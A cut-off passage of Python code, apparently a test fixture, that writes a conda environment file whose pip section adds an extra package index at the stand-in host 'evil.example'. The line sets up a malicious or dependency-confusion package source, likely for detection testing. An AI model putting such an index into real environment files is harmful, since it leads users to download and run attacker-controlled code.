     exported.write_text("name: wheels\nchannels: [main]\ndependencies:\n  - python\n  - pip\n  - pip:\n"
                         "    - --extra-index-url https://evil.example/simple\n"
